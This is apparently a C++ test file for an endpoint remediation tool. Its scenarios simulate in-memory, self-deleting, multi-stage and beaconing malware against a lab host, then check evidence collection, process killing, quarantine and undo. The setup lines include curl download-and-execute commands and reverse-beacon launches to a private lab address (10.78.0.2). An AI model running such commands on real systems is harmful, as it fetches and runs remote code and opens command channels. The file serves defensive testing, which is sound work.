// SPDX-License-Identifier: GPL-3.0-or-later
// S4, S5, S7 and S9: what makes it harder to take something away, or to say that it is gone.
#include "tests/actuator/file_stage.h"
#include "tests/remediation_scenarios/clean_up.h"
#include "tests/trace_scenarios/scenes.h"

using namespace metsuke;
using namespace metsuke::test;
using endpoint::EntryVector;
using plan::Action;

namespace {

const std::set<Action> kWithoutFile{Action::CollectEvidence, Action::SuspendProcess, Action::KillConnections, Action::KillProcess};

} // namespace

TEST_P(EitherWayCleanUp, S4_programInMemory_isKeptAsEvidenceAndEnded) {
    far->takeStreams(kBeaconPort);
    place("home/loader", simulant());
    begin();
    happen(std::string("setsid home/loader --memory tcp 10.78.0.2 4444 500") + kRun);
    const Question seen = beacon();
    EXPECT_EQ(causeOf(seen, [](const auto& trace) { return trace.entry == EntryVector::Fileless; }).entry, EntryVector::Fileless);
    const plan::Plan plan = planOf(proposalFor(seen, kWithoutFile));
    EXPECT_FALSE(isSilent());
    const plan::PlanReport done = carryOut(plan);
    EXPECT_TRUE(isSilent());
    undo(plan);
    EXPECT_TRUE(evidenceFile(done, "exe") == simulant()) << "what only the process had";
}

TEST_P(CleanUp, S5_programThatDeletedItself_isKeptAsEvidenceAndEnded_andSaidNotToComeBack) {
    far->serveFiles(kWebPort, {{"/gone", {simulant()}}});
    far->takeStreams(kBeaconPort);
    begin();
    happen(std::string("curl -s -o home/gone http://10.78.0.2:8080/gone\nchmod +x home/gone\nsetsid home/gone --forget tcp 10.78.0.2 4444 500") + kRun);
    const Question seen = beacon();
    const endpoint::Trace cause = causeOf(seen, [](const endpoint::Trace& trace) { return trace.entry == EntryVector::Download && trace.nodes[*trace.subject].isRemoved; });
    EXPECT_EQ(cause.entry, EntryVector::Download);
    const mitigation::Proposal proposal = proposalFor(seen, kWithoutFile);
    const Message gone = Message("mitigation.left_gone").with("path", path("home/gone"));
    EXPECT_NE(std::ranges::find(proposal.leftOut, gone), proposal.leftOut.end()) << "that it cannot come back is not said";
    const plan::Plan plan = planOf(proposal);
    const std::string digest = actuator::test::digestOf(METSUKE_SIMULANT);
    size_t processes = 0;
    for (const plan::Step& step : plan.steps) {
        EXPECT_NE(step.action, Action::QuarantineFile) << "there is nothing to take away";
        if (const auto* process = std::get_if<plan::ProcessTarget>(&step.target)) {
            EXPECT_EQ(process->image, path("home/gone"));
            EXPECT_EQ(process->sha256, digest);
            ++processes;
        }
    }
    EXPECT_EQ(processes, 2U) << "one is to blame, frozen and ended";
    EXPECT_FALSE(isSilent());
    const plan::PlanReport done = carryOut(plan);
    EXPECT_TRUE(isSilent());
    EXPECT_TRUE(runsNowhere(path("home/gone")));
    undo(plan);
    EXPECT_FALSE(std::filesystem::exists(path("home/gone"))) << "what is gone is not made up for";
    EXPECT_TRUE(evidenceFile(done, "exe") == simulant()) << "what only the process had";
}

TEST_P(CleanUp, S7_threeStages_areFollowedToTheFirst_andAllNamesOfAFileGoAndComeBackTogether) {
    victim->write("pack/second.sh", kSecondStage);
    ASSERT_EQ(quietly({"chmod", "+x", path("pack/second.sh")}), 0);
    ASSERT_EQ(quietly({"tar", "-cf", path("pack.tar"), "-C", path("pack"), "second.sh"}), 0);
    far->serveFiles(kSecondWebPort, {{"/pack.tar", {readFile(path("pack.tar"))}}});
    far->serveFiles(kWebPort, {{"/third", {simulant()}}});
    far->takeStreams(kBeaconPort);
    place("first.sh", kFirstStage);
    begin();
    happen("./first.sh\nln home/.svc home/.copy\nmkdir elsewhere\nln home/.copy elsewhere/.third");
    dressUp(path("home/.svc"));
    const std::set<std::string> names{path("home/.svc"), path("home/.copy"), path("elsewhere/.third")};
    const Question seen = beacon();
    const endpoint::Trace cause = causeOf(seen, [&](const endpoint::Trace& trace) {
        const bool isFirst = trace.root && trace.nodes[*trace.root].label.find("10.78.0.2:8081") != std::string::npos;
        return isFirst && trace.nodes[*trace.subject].links.size() == names.size();
    });
    EXPECT_EQ(cause.entry, EntryVector::Download);
    const plan::Plan plan = cleanAndUndo(seen, {Action::SuspendProcess, Action::QuarantineFile, Action::KillProcess});
    std::set<std::string> files, taken;
    for (const plan::Step& step : plan.steps) {
        if (const auto* file = std::get_if<plan::FileTarget>(&step.target)) {
            files.insert(file->path);
            if (names.contains(file->path)) {
                taken.insert(file->links.begin(), file->links.end());
                taken.insert(file->path);
            }
        }
    }
    EXPECT_EQ(taken, names);
    EXPECT_TRUE(files.contains(path("home/.second"))) << "the stage before";
    actuator::test::undress(path("home/.svc"));
}

TEST_P(CleanUp, S9_beaconsByDatagramsAndInALongConnectionOfBothFamilies_areCutWhileTheyLive_andGoOnWhenReleased) {
    constexpr uint16_t kManagement = 8883, kLong4 = 4441, kLong6 = 4442, kDatagrams4 = 4443, kDatagrams6 = 4444;
    far->takeStreams(kManagement);
    for (const uint16_t port : {kLong4, kLong6}) {
        far->takeStreams(port);
    }
    for (const uint16_t port : {kDatagrams4, kDatagrams6}) {
        far->takeDatagrams(port);
    }
    place("home/tool", simulant());
    places = {"mqtts://10.78.0.2:8883"};
    begin();
    happen(std::string("setsid home/tool --stubborn tcp 10.78.0.2 4441 500") + kRun + "\nsetsid home/tool --stubborn tcp fd00:78::2 4442 500" + kRun
        + "\nsetsid home/tool --stubborn udp 10.78.0.2 4443 500" + kRun + "\nsetsid home/tool --stubborn udp fd00:78::2 4444 500" + kRun);
    const uint16_t ports[] = {kLong4, kLong6, kDatagrams4, kDatagrams6};
    mitigation::Proposal cut;
    for (const uint16_t port : ports) {
        const Question seen = beacon(port, port == kLong4 || port == kLong6 ? "tcp" : "udp");
        const mitigation::Proposal proposal = proposalFor(seen, {Action::KillConnections});
        EXPECT_FALSE(isSilent(port));
        cut = proposal;
    }
    for (mitigation::ProposedStep& one : cut.steps) { // nothing is ended: what is silent then, the network keeps silent
        one.isChosen = one.step.action == Action::ContainHost || one.step.action == Action::KillConnections;
    }
    const plan::Plan plan = planOf(cut);
    (void)carryOut(plan);
    for (const uint16_t port : ports) {
        EXPECT_TRUE(isSilent(port)) << port;
    }
    EXPECT_FALSE(runsNowhere(path("home/tool"))) << "it is there still, and calls";
    undo(plan);
    for (const uint16_t port : ports) {
        EXPECT_FALSE(isSilent(port)) << port << ": undo lets it call again";
    }
}
